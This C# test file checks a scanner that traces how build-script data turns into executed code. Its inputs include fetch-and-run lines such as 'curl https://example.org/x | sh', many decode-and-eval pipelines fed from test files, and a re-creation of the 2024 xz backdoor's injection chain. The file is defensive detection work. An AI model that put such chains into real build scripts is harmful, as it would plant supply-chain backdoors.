using Xzact.Audit.Scan;
using Xzact.Audit.Shell;

namespace Xzact.Audit.Tests.Scan;

public sealed class ScriptFlowTests
{
    private static FlowGraph Graph(string script, ShellGrammar grammar = ShellGrammar.Posix)
    {
        FlowGraph graph = new();
        ScriptFlow.Add(graph, "build.sh", script, grammar);
        return graph;
    }

    private static bool IsUnexpected(FlowNode node) => node.Kind is FlowKind.Network or FlowKind.Search
        || (node.Kind == FlowKind.File && node.Name.Contains("tests/", StringComparison.Ordinal));

    private static string[] Found(string script) =>
        [.. Graph(script).Paths(IsUnexpected).Select(path => path.ToString())];

    [Fact]
    public void A_path_is_told_step_by_step() => Assert.Equal(
        """
        build.sh:2: the file tests/a.bin
        build.sh:2: 'tr ab ba' reads it and writes on
        build.sh:3: 'gzip -d' reads it and writes on
        build.sh:3: 'sh' runs it as commands
        """.ReplaceLineEndings("\n"),
        Assert.Single(Found("set -e\ntr ab ba <tests/a.bin |\n gzip -d | sh\n")));

    [Fact]
    public void Values_of_a_compilers_options_are_no_files() => Assert.Equal(
        [
            OperandRole.None, OperandRole.None, OperandRole.None, OperandRole.None, OperandRole.Write, OperandRole.Read,
        ],
        OperandRoles.Of("cc", ["-x", "c", "-c", "-o", "a.o", "b.c"]));

    [Fact]
    public void A_loop_that_computes_is_one_step() => Assert.Equal(
        """
        build.sh:1: the file tests/a.bin
        build.sh:1: 'od -An -tu1' reads it and writes on
        build.sh:1: 'while read b; do printf $((b)); done' reads it and writes on
        build.sh:1: 'sh' runs it as commands
        """.ReplaceLineEndings("\n"),
        Assert.Single(Found("od -An -tu1 <tests/a.bin | while read b; do printf $((b)); done | sh")));

    [Theory]
    [InlineData("cat tests/a | sh")]
    [InlineData("sh tests/a")]
    [InlineData(". tests/a")]
    [InlineData("sh <tests/a")]
    [InlineData("eval \"$(cat tests/a)\"")]
    [InlineData("x=`cat tests/a`; eval $x")]
    [InlineData("x=`cat tests/a`\neval \"$x\"")]
    [InlineData("while read -r l; do eval \"$l\"; done <tests/a")]
    [InlineData("f() { cat \"$1\"; }; f tests/a | sh")]
    [InlineData("f() { sed s/a/b/; }; f <tests/a >x; sh x")]
    [InlineData("d=tests; n=a; gzip -dc $d/$n | $SHELL")]
    [InlineData("d=tests; gzip -dc \"$srcdir/$d/a\" | sh")]
    [InlineData("for n in a b; do cat tests/$n; done | sh")]
    [InlineData("c='cat tests/a | sh'; eval $c")]
    [InlineData("c='tr a b'; eval \"$c <tests/a\" | sh")]
    [InlineData("sh -c 'cat tests/a' | sh")]
    [InlineData("t=`echo tests`; cat $t/a | sh")]
    [InlineData("dd if=tests/a of=x bs=1 skip=3; . ./x; . x")]
    [InlineData("head -c 9 tests/a >x.o; gcc -shared x.o -o y")]
    [InlineData("cp tests/a x.c; cc -c x.c")]
    [InlineData("sed -n p tests/a >>Makefile")]
    [InlineData("sed -i \"s/x/$(cat tests/a)/\" libtool")]
    [InlineData("n=$(ls tests/a.true | sed 's/.*\\.//'); $n -d")]
    [InlineData("env LC_ALL=C cat tests/a | exec sh")]
    [InlineData("cat <<E | sh\n$(cat tests/a)\nE\n")]
    [InlineData("(cat tests/a; echo) | { read x; cat; } | if :; then sh; fi")]
    [InlineData("curl https://example.org/x | sh")]
    [InlineData("eval `grep -aErls '@@DEMO@@' $srcdir`")]
    [InlineData("cat tests/a | sed s/x/y/ | awk '{print}' | base64 -d | openssl enc -d | tail -c +9 | sh")]
    public void Data_that_becomes_code_is_found(string script) => Assert.NotEmpty(Found(script));

    [Theory]
    [InlineData("cat tests/a | wc -c")]
    [InlineData("echo tests/a | sh")]
    [InlineData("cat tests/a >log; cat src/b | sh")]
    [InlineData("test -f tests/a && sh configure")]
    [InlineData("cat tests/a >/dev/null; sh run")]
    [InlineData("cat src/a | tr x y | sh")]
    [InlineData("x=`cat tests/a`; echo \"$x\"")]
    [InlineData("if cmp tests/a b; then cc -c c.c; fi")]
    [InlineData("gzip -dc tests/a | cmp - tests/b")]
    [InlineData("mkdir -p tests/a; . ./lib.sh")]
    public void What_stays_data_is_not(string script) => Assert.Empty(Found(script));

    [Theory]
    [InlineData("a[$(cat tests/a | sh)]=x")]
    [InlineData("echo ${a[$(cat tests/a | sh)]} >x")]
    [InlineData("x=$((1 + $(cat tests/a | sh)))")]
    [InlineData("a[$i]=$(cat tests/a); eval \"${a[0]}\"")]
    [InlineData("a[1]+=$(cat tests/a); eval \"${a[@]}\"")]
    [InlineData("f[1]=tests/a; tr a b <${f[1]} | sh")]
    [InlineData("f[$i]=tests/a; tr a b <\"${f[$i]}\" | sh")]
    [InlineData("f=(src/b tests/a); tr a b <${f[1]} | sh")]
    [InlineData("f=(tests/a); for x in \"${f[@]}\"; do tr a b <$x | sh; done")]
    [InlineData("declare -A f; f[a]=tests/a; tr a b <${f[a]} | sh")]
    [InlineData("c[1]=sh; cat tests/a | ${c[1]}")]
    [InlineData("c=(sh -s); cat tests/a | \"${c[@]}\"")]
    [InlineData("f=tests/a; tr a b <${f[0]} | sh")]
    public void Elements_of_arrays_carry_data_and_subscripts_run(string script) =>
        Assert.NotEmpty(Graph(script, ShellGrammar.Extended).Paths(IsUnexpected));

    [Theory]
    [InlineData("for i in tests/*; do seen[$i]=\"$i\"; done")]
    [InlineData("while read i; do seen[$i]=\"$i\"; done <tests/a")]
    [InlineData("n=$(cat tests/a); a[$n]=x; eval \"${a[1]}\"")]
    [InlineData("n=$(cat tests/a); a[$n]+=x")]
    public void An_element_that_data_names_is_no_command(string script) =>
        Assert.Empty(Graph(script, ShellGrammar.Extended).Paths(IsUnexpected));

    // The shape of the attack of 2024 in our own words: a search, a name that becomes a program, a map, two evals.
    [Fact]
    public void A_chain_of_indirections_is_followed_to_its_shell()
    {
        string[] found = Found("""
            demo_file=`grep -aErls "@@DEMO@@" $srcdir/ 2>/dev/null`
            demo_map='tr "ab" "ba"'
            demo_prefix=`echo $demo_file | sed "s/.*\.//g"`
            demo_config='sed "r\n" $demo_file | eval $demo_map | $demo_prefix -d 2>/dev/null'
            if test "x$demo_file" != x; then
              eval $demo_config | $SHELL
            fi
            """);
        Assert.Contains(found, path => path.Contains("names the program that runs", StringComparison.Ordinal));
        string shell = Assert.Single(
            found, path => path.EndsWith("'sh' runs it as commands", StringComparison.Ordinal));
        Assert.StartsWith("build.sh:1: files that 'grep -aErls", shell, StringComparison.Ordinal);
        Assert.Contains("build.sh:1: the variable demo_file", shell, StringComparison.Ordinal);
    }

    [Fact]
    public void Scripts_of_a_tree_meet_in_files()
    {
        FlowGraph graph = new();
        ScriptFlow.Add(graph, "configure", "gzip -dc tests/a >conftest.x\n", ShellGrammar.Posix);
        ScriptFlow.Add(graph, "build.sh", "\n. conftest.x\n", ShellGrammar.Posix);
        FlowPath path = Assert.Single(graph.Paths(IsUnexpected));
        Assert.Equal(("configure:1", "build.sh:2"), (path.Steps[0].Place.ToString(), path.Sink.Place.ToString()));
    }

    [Fact]
    public void Pattern_rules_for_everything_do_not_meet()
    {
        FlowGraph graph = new();
        ScriptFlow.Add(graph, "a/Makefile", "hexdump -f tests/hex >%\n", ShellGrammar.Posix);
        ScriptFlow.Add(graph, "b/Makefile", "cc -o x %\n", ShellGrammar.Posix);
        Assert.Empty(graph.Paths(IsUnexpected));
    }

    [Fact]
    public void Words_that_nothing_resolves_are_counted()
    {
        FlowGraph graph = Graph("$a b\nx=1\n\"$x\" c\nd\n$(e) f\n");
        Assert.Equal((5, 2), (graph.Commands, graph.UnresolvedCommands));
    }

    [Theory]
    [InlineData("f() { f; }; f")]
    [InlineData("f() { g; g; }; g() { f; f; }; f")]
    [InlineData("x='eval $x'; eval $x")]
    [InlineData("x='$x$x$x$x'; eval $x")]
    public void What_calls_itself_ends(string script) => Assert.NotNull(Graph(script));
}
